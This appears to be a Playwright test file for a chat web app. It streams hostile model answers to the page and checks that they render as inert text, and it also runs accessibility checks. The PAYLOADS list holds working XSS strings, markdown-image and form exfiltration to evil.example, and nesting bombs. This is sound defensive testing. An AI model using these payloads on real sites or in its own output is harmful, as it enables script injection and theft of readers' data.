"""What a model may say to hurt who reads it: the page shows it, and does nothing of it. Also: what checkers find."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Sequence
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, expect

from server import create_app
from settings import Settings
from tests.browser import AXE, ROOT, ask, chromium, fresh, needs_axe, needs_chromium, player, say, use, visit
from tests.servers import serve
from tests.upstream import Answer, Upstream, chat_chunks, sse

pytestmark = [pytest.mark.asyncio(loop_scope="module"), needs_chromium]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/leak?q=secret)",
    "![x][p]\n\n[p]: https://evil.example/leak",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object><embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input name=key><button>Send</button></form>",
    "<style>body{display:none}@import url(https://evil.example/x.css)</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    '<div class="failure" id="message">Enter your key</div>',
    "<a href=https://evil.example onclick=alert(1)>x</a>",
    "<b onmouseover=alert(1)>x</b><br onload=alert(1)>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<video src=https://evil.example/x autoplay onplay=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template><slot></slot>",
    "```<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    '```"><img/src=x/onerror=alert(1)>\ncode\n```',
    '[x](https://ok.example "\\" onmouseover=alert(1) x=")',
    "| <img src=x onerror=alert(1)> | `<script>alert(1)</script>` |\n|---|---|\n| <svg/onload=alert(1)> | x |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "- " * 3000 + "deep",
    "> " * 3000 + "deep",
    "\n".join("  " * depth + "- deep" for depth in range(300)),
    "[" * 5000 + "x" + "](y)" * 5000,
    "*" * 20_000 + "_" * 20_000,
    "x" * 1_000_000,
    "`" * 3000 + "\n" + "a\0b\u202egnp.exe\ufeff",
    "|" * 5000 + "\n" + "|-" * 5000 + "\n",
    "<!--" * 3000 + "<![CDATA[" + "<?xml " * 100,
]  # fmt: skip
BAD = "<img src=x onerror=alert(1)>"
ALLOWED = (
    "p br hr h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong del a table thead tbody tr th td sub sup kbd"
)
ALLOWED += " mark b i u s span div button"
FOUND = """(allowed) => [...document.querySelectorAll(".markdown *, .work *")].flatMap((node) => {
    const name = node.localName, told = [];
    if (node.closest(".markdown") && !allowed.includes(name)) told.push(name);
    for (const { name: attribute, value } of node.attributes) {
        if (/^on|^style$|^src|^id$/.test(attribute)) told.push(`${name} ${attribute}=${value}`);
        if (attribute === "href" && !/^(https?|mailto):/.test(value)) told.push(`${name} href=${value}`);
    }
    if (name === "a" && node.href && node.rel !== "noopener noreferrer nofollow") told.push("a without rel");
    return told;
})"""


def pieces(text: str, size: int = 7) -> Answer:
    """As models speak, so that every half of a tag is shown once."""
    base = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}
    step = max(size, len(text) // 60)
    deltas: list[dict[str, Any]] = [{"content": text[at : at + step]} for at in range(0, len(text), step)]
    chunks = [{**base, "choices": [{"index": 0, "delta": delta, "finish_reason": None}]} for delta in deltas]
    return sse([*chunks, {**base, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}])


ANSWERS: dict[str, list[Answer]] = {f"payload{number}": [pieces(text)] for number, text in enumerate(PAYLOADS)}
ANSWERS["tools"] = [
    use("write_file", json.dumps({"path": f"{BAD}.html".replace("/", ""), "content": BAD}), reasoning=BAD),
    use(BAD, json.dumps({"path": BAD, BAD: BAD})),
    use("activate_skill", json.dumps({"name": BAD})),
    use("read_skill_file", json.dumps({"skill": f"</summary>{BAD}", "path": BAD})),
    say("Done."),
]
ANSWERS["error"] = [
    sse([*chat_chunks("So", finish="", usage=None), {"error": {"message": BAD, "type": BAD}}], done=False)
]
FINE = "# Title\n\nText `code` [x](https://ok.example)\n\n```sql\nselect 1\n```\n\n| a |\n|---|\n| 1 |"
ANSWERS["fine"] = [use("activate_skill", '{"name": "market-research"}', reasoning="Hm."), say(FINE)]


class Rig:
    def __init__(self, browser: Browser, url: str) -> None:
        self.browser = browser
        self.url = url


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def rig() -> AsyncIterator[Rig]:
    with Upstream() as up:
        up.always(player(ANSWERS))
        settings = Settings(
            model="openai/test-model",
            openai_base_url=f"{up.url}/v1",
            openai_api_key="sk-the-right-key",
            skills=(ROOT / "skills",),
        )
        with serve(create_app(settings)) as url:
            async with chromium() as browser:
                yield Rig(browser, url)


async def harmless(page: Page) -> None:
    assert await page.evaluate(FOUND, ALLOWED.split()) == []
    assert await page.locator("#message").count() == 1


async def read_all(rig: Rig, questions: Sequence[str]) -> None:
    """`visit` fails on any dialog, error, request elsewhere and breach of the policy."""
    async with visit(rig.browser, rig.url) as page:
        for at in range(0, len(questions), 10):
            await fresh(page)
            for question in questions[at : at + 10]:
                await ask(page, question)
            await expect(page.locator(".failure, .state")).to_have_count(0)
            await harmless(page)
            await page.mouse.move(600, 400)
            await page.mouse.move(500, 200)


async def test_a_hostile_answer_does_nothing(rig: Rig) -> None:
    assert len(PAYLOADS) >= 30
    questions = [f"payload{number}" for number in range(len(PAYLOADS))]
    await asyncio.gather(*(read_all(rig, questions[at::2]) for at in range(2)))


async def test_what_tools_errors_and_thoughts_say_is_text(rig: Rig) -> None:
    async with visit(rig.browser, rig.url) as page:
        await ask(page, "tools please")
        await page.locator(".work > summary").click()
        for tool in await page.locator(".tool > summary").all():
            await tool.click()
        await harmless(page)
        await expect(page.locator(".thought")).to_contain_text(BAD)
        await ask(page, "error please")
        await expect(page.locator(".failure")).to_contain_text(BAD)
        await harmless(page)


async def test_what_is_kept_or_imported_is_text_too(rig: Rig) -> None:
    said = {"kind": "text", "text": BAD}
    kept = {
        "title": BAD,
        "messages": [{"role": "user", "text": BAD}, {"role": "assistant", "parts": [said], "id": BAD}],
    }
    body = json.dumps({"format": "skill-agent conversations", "version": 1, "conversations": [kept]}).encode()
    async with visit(rig.browser, rig.url, f"?q={BAD}") as page:
        await expect(page.locator("#message")).to_have_value(BAD)
        file = {"name": "x.json", "mimeType": "application/json", "buffer": body}
        await page.locator(".sidebar input[type=file]").set_input_files(file)  # type: ignore[arg-type]
        await page.locator(".row-title").click()
        await expect(page.locator(".bubble")).to_have_text(BAD)
        await expect(page.locator(".markdown")).to_have_text(BAD)
        await harmless(page)


async def findings(page: Page, *parts: str) -> list[str]:
    """Of the whole page, or of parts of it."""
    await page.evaluate(AXE.read_text("utf-8"))
    check = "parts => axe.run(parts.length ? parts : document, {resultTypes: ['violations']}).then(r => r.violations)"
    found = await page.evaluate(check, list(parts))
    serious = [each for each in found if each["impact"] in ("serious", "critical", "moderate")]
    return [f"{each['id']}: {each['nodes'][0]['html'][:200]}" for each in serious]


@needs_axe
@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_axe_finds_nothing_serious_in_a_conversation(rig: Rig, scheme: str) -> None:
    async with visit(rig.browser, rig.url, color_scheme=scheme) as page:
        await ask(page, "fine please")
        await page.locator(".work > summary").click()
        await page.locator(".hljs-keyword").wait_for()
        assert await findings(page) == []
        await page.keyboard.press("Control+,")
        assert await findings(page) == []


@needs_axe
async def test_axe_finds_nothing_serious_in_the_other_views(rig: Rig) -> None:
    async with visit(rig.browser, rig.url, viewport={"width": 320, "height": 600}) as page:
        await page.get_by_role("button", name="Show conversations").click()
        assert await findings(page) == []
    async with visit(rig.browser, rig.url, "docs") as page:
        await page.locator(".operation").first.wait_for()
        assert await findings(page, ".toc", ".intro", "#post_chat_completions", "#get_responses_id") == []


async def test_an_operation_is_tried_and_its_stream_is_shown(rig: Rig) -> None:
    async with visit(rig.browser, rig.url, "docs") as page:
        form = page.locator("#post_chat_completions .try")
        body = json.dumps({"messages": [{"role": "user", "content": "hello"}], "stream": True})
        await form.locator("textarea").fill(body)
        await form.get_by_role("button", name="Send").click()
        await expect(form.locator("pre")).to_contain_text("data: [DONE]")
        await expect(form.get_by_role("status")).to_contain_text("200 OK")
        models = page.locator("#get_models_id .try")
        await models.get_by_label("id").fill("nothing")
        await models.get_by_role("button", name="Send").click()
        await expect(models.locator("pre")).to_contain_text("model_not_found")
        paths = (await (await page.request.get(f"{rig.url}/openapi.json")).json())["paths"]
        await expect(page.locator(".operation")).to_have_count(sum(map(len, paths.values())))
